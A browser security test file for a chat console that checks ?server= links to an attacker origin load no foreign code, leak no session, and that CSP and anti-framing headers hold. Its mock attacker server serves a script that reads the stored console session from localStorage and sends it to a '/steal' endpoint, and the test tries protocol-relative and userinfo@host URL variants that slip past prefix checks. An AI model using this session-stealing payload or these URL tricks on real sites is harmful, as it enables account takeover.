// Security review F1/F7 in a real browser: links with ?server= pointing at an attacker's origin
// load no code from it and send it nothing (console and demo); the console carries a strict CSP
// and still works under it; the demo page lives on its own origin, away from the console's
// stored session.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { join } from 'node:path';
import {
  stack, ROOT, PASSWORD, ARTIFACTS, browser, newPage, waitFor, W
} from './harness.mjs';

const s = stack();
let server;
const hits = [];

/** An attacker's server that serves "stolen" scripts and records every request. */
async function startAttacker() {
  const srv = createServer((req, res) => {
    hits.push(`${req.method} ${req.url}`);
    res.writeHead(200, { 'content-type': 'text/javascript', 'access-control-allow-origin': '*' });
    res.end("fetch('/steal?' + encodeURIComponent(localStorage.getItem('wsmschat-console:session')));\nexport default async function () {}\n");
  });
  await new Promise((r) => srv.listen(0, '127.0.0.1', r));
  return { server: srv, url: `http://127.0.0.1:${srv.address().port}`, close: (cb) => srv.close(cb) };
}

test('?server= links run no foreign code and leak no session or password', async () => {
  server = await s.startServer({ args: ['--console-dir', join(ROOT, 'console/dist')] });
  const evil = await startAttacker();
  s.own(() => new Promise((r) => evil.server.close(r)));
  const context = await (await browser()).newContext();
  const page = await newPage(context);

  // The console: CSP and framing headers, and a login that goes to its own server only.
  const res = await page.goto(`${server.url}/console/?server=${encodeURIComponent(evil.url)}`);
  const csp = res.headers()['content-security-policy'] || '';
  assert.match(csp, /script-src 'self' 'wasm-unsafe-eval'/);
  assert.match(csp, /frame-ancestors 'none'/);
  assert.equal(res.headers()['x-frame-options'], 'DENY');
  await page.locator('#login-email').fill('admin@example.com');
  await page.locator('#login-password').fill(PASSWORD);
  await page.locator('form.login button[type=submit]').click();
  await page.locator('.conn:has-text("Connected")').waitFor({ timeout: 15000 });
  const session = JSON.parse(await page.evaluate(() => localStorage.getItem('wsmschat-console:session')));
  assert.equal(session.server, server.url, 'the session belongs to the console\'s own server');

  // Variants a prefix check would let through.
  const own = new URL(server.url);
  for (const q of [evil.url, `//${new URL(evil.url).host}`, `http://${own.host}@${new URL(evil.url).host}`]) {
    await page.goto(`${server.url}/console/?server=${encodeURIComponent(q)}`);
    await page.locator('.conn:has-text("Connected")').waitFor({ timeout: 15000 });
  }

  // The demo: /demo/ on the chat port sends the browser to the demo listener (another origin),
  // which names this chat server in its config.js; ?server= is ignored.
  assert.ok(server.demoUrl, 'the server printed its demo page');
  await page.goto(`${server.url}/demo/?server=${encodeURIComponent(evil.url)}`);
  assert.equal(new URL(page.url()).port, new URL(server.demoUrl).port);
  assert.notEqual(new URL(page.url()).origin, new URL(server.url).origin);
  await page.locator(W.launcher).waitFor({ state: 'visible', timeout: 15000 });
  const scripts = await page.evaluate(() => [...document.scripts].map((s) => s.src));
  assert.ok(scripts.some((src) => src.endsWith(`:${server.port}/widget.js`)), JSON.stringify(scripts));
  // The console's session is out of the demo page's reach (another origin's storage).
  assert.equal(await page.evaluate(() => localStorage.getItem('wsmschat-console:session')), null);
  await page.screenshot({ path: join(ARTIFACTS, 'security-demo.png') });

  assert.deepEqual(hits, [], 'the attacker\'s server got no request');
  await context.close();
});

test('the console cannot be framed by another site', async () => {
  const context = await (await browser()).newContext();
  const page = await newPage(context);
  const framer = createServer((req, res) => {
    res.writeHead(200, { 'content-type': 'text/html' });
    res.end(`<!doctype html><iframe id="f" src="${server.url}/console/" width="800" height="600"></iframe>`);
  });
  await new Promise((r) => framer.listen(0, '127.0.0.1', r));
  await page.goto(`http://localhost:${framer.address().port}/`);
  await new Promise((r) => setTimeout(r, 1500));
  const frame = page.frames().find((f) => f.url().includes('/console/'));
  const rendered = frame ? await frame.evaluate(() => !!document.querySelector('#login-email')).catch(() => false) : false;
  assert.equal(rendered, false, 'the console rendered inside a foreign frame');
  await new Promise((r) => framer.close(r));
  await context.close();
});
